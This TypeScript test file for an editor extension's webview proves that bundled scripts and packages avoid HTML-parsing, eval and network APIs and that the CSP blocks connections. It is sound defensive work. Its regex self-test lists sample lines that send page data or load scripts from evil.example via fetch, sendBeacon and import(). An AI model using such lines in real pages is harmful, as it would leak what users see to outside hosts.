// Webview scripts put words on the page as text only and never talk to the network. A static check,
// because one `innerHTML = cell` would turn a scraped value into markup and one `fetch(url)` would
// let a page send what it shows elsewhere; the CSP (connect-src 'none') is the second wall and the
// UI tier checks the real DOM and the requests. The check reads every file that goes into a
// webview bundle: webview/**, the src/ modules it imports (e.g. src/core/table/virtualWindow.ts)
// and the npm packages it imports (uplot), followed through their imports.
import * as assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import * as path from 'node:path';
import { contentSecurityPolicy } from '../../../src/platform/webview/webviewHtml';

const ROOT = path.resolve(__dirname, '../../..');
const WEBVIEW = path.join(ROOT, 'webview');

function scripts(folder: string): string[] {
  return readdirSync(folder).flatMap((name) => {
    const full = path.join(folder, name);
    if (statSync(full).isDirectory()) return scripts(full);
    return name.endsWith('.ts') ? [full] : [];
  });
}

/** Module specifiers a file imports at run time (`import type` is erased by the bundler). */
function importsOf(text: string): string[] {
  const specifiers: string[] = [];
  for (const match of text.matchAll(/^\s*(?:import|export)\s+(type\s+)?(?:[^'";]*?\s+from\s+)?['"]([^'"]+)['"]/gm)) {
    if (!match[1]) specifiers.push(match[2]);
  }
  return specifiers;
}

/** A relative import as the bundler finds it: the file, or with .ts / .js / /index.ts. */
function resolveRelative(from: string, specifier: string): string | undefined {
  const base = path.resolve(path.dirname(from), specifier);
  return [base, `${base}.ts`, `${base}.js`, path.join(base, 'index.ts')].find((candidate) => existsSync(candidate) && statSync(candidate).isFile());
}

/** A package's browser entry files (esbuild for the browser takes `module`, else `main`). */
function packageEntries(specifier: string): string[] {
  if (/\.css$/.test(specifier)) return [];
  const name = specifier.startsWith('@') ? specifier.split('/').slice(0, 2).join('/') : specifier.split('/')[0];
  const folder = path.join(ROOT, 'node_modules', name);
  if (specifier !== name) return [require.resolve(specifier, { paths: [ROOT] })];
  const manifest = JSON.parse(readFileSync(path.join(folder, 'package.json'), 'utf8')) as { main?: string; module?: string; browser?: unknown };
  return [manifest.module, manifest.main, typeof manifest.browser === 'string' ? manifest.browser : undefined]
    .filter((entry): entry is string => entry !== undefined)
    .map((entry) => path.join(folder, entry));
}

/** Every file bundled into a webview page: ours (webview/ and src/) and the packages' files. */
function bundledFiles(): { ours: string[]; packages: string[] } {
  const ours = new Set<string>();
  const packages = new Set<string>();
  const pending = scripts(WEBVIEW);
  while (pending.length > 0) {
    const file = pending.pop() as string;
    const inPackage = file.includes(`${path.sep}node_modules${path.sep}`);
    const seen = inPackage ? packages : ours;
    if (seen.has(file)) continue;
    seen.add(file);
    for (const specifier of importsOf(readFileSync(file, 'utf8'))) {
      if (specifier.startsWith('.')) {
        const resolved = resolveRelative(file, specifier);
        if (resolved && !/\.css$/.test(resolved)) pending.push(resolved);
      } else {
        pending.push(...packageEntries(specifier));
      }
    }
  }
  return { ours: [...ours], packages: [...packages] };
}

/** APIs that parse a string as HTML or code, or navigate. */
const HTML_OR_CODE = /\.(innerHTML|outerHTML)\b|insertAdjacentHTML|document\.write|createContextualFragment|DOMParser|\beval\(|new Function\(|setAttribute\(\s*['"](href|src|on\w+)['"]|\.href\s*=|window\.open\(/;

/**
 * Ways a page reaches the network (or loads code from it): the request APIs, beacons, dynamic
 * import (of a URL or anything else: the bundle is one file), workers and their script imports.
 */
const NETWORK = /\bfetch\s*\(|\bXMLHttpRequest\b|\bWebSocket\b|\bEventSource\b|\bsendBeacon\b|\bimport\s*\(|\bimportScripts\s*\(|\bnew\s+(Shared)?Worker\s*\(|\bRTCPeerConnection\b/;

/** The lines of `files` that match `pattern`, as `file:line: text` (comment lines skipped). */
function offendingLines(files: readonly string[], pattern: RegExp): string[] {
  return files.flatMap((file) =>
    readFileSync(file, 'utf8')
      .split('\n')
      .map((line, index) => ({ line, where: `${path.relative(ROOT, file)}:${index + 1}` }))
      .filter(({ line }) => pattern.test(line) && !/^\s*(\/\/|\*|\/\*)/.test(line))
      .map(({ where, line }) => `${where}: ${line.trim().slice(0, 160)}`),
  );
}

suite('Proof: webview scripts write text only and make no request', () => {
  const { ours, packages } = bundledFiles();

  test('the check reads the bundles\' real inputs: webview/, the src/ modules they import, uplot', () => {
    const relative = ours.map((file) => path.relative(ROOT, file).split(path.sep).join('/'));
    assert.ok(relative.includes('webview/table/main.ts'));
    assert.ok(relative.includes('webview/shared/host.ts'));
    assert.ok(relative.includes('src/core/table/virtualWindow.ts'), 'an imported src/ module is read');
    assert.ok(!relative.includes('src/core/table/tableMessages.ts'), 'a type-only import is not bundled, so not read');
    assert.ok(packages.some((file) => file.endsWith(path.join('uplot', 'dist', 'uPlot.esm.js'))), 'the chart package is read');
  });

  test('no HTML parsing, eval, inline handler or navigation API in webview code', () => {
    assert.deepEqual(offendingLines(ours, HTML_OR_CODE), []);
  });

  test('no fetch, XMLHttpRequest, WebSocket, EventSource, sendBeacon, import() or worker in webview code or its packages', () => {
    assert.deepEqual(offendingLines([...ours, ...packages], NETWORK), []);
  });

  test('the patterns catch what they are for (a check that cannot fail is no check)', () => {
    const caught = [
      "void fetch('https://evil.example/?' + cell);",
      'const xhr = new XMLHttpRequest();',
      "new WebSocket('wss://evil.example');",
      "const events = new EventSource('/stream');",
      "navigator.sendBeacon('https://evil.example', data);",
      "await import('https://evil.example/x.js');",
      "importScripts('https://evil.example/w.js');",
      "new Worker('w.js');",
      'window.fetch (url)',
    ];
    for (const line of caught) assert.match(line, NETWORK, line);
    const harmless = ['const fetched = rows.length;', 'prefetchPages(window);', "import { Grid } from './grid';", 'const socketless = true;'];
    for (const line of harmless) assert.doesNotMatch(line, NETWORK, line);
    assert.match('cell.innerHTML = text;', HTML_OR_CODE);
    assert.doesNotMatch('cell.textContent = text;', HTML_OR_CODE);
  });

  test('the page\'s CSP allows no connection: connect-src \'none\' under default-src \'none\'', () => {
    const directives = contentSecurityPolicy('https://x.vscode-cdn.net', 'c2VxdWVudHVtLW5vbmNlLTEyMzQ1Ng==').split('; ');
    assert.ok(directives.includes("connect-src 'none'"));
    assert.ok(directives.includes("default-src 'none'"));
    assert.equal(directives.filter((directive) => directive.startsWith('connect-src')).length, 1);
  });
});
